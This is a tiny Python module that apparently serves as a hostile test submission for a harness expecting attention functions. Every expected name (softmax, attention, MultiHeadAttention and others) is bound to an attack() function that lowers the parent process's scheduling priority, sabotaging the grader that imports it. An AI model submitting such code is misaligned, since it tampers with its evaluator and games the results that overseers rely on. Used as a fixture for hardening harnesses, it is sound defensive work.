"""Slows its parent down."""

import os


def attack(*args, **kwargs):
    os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
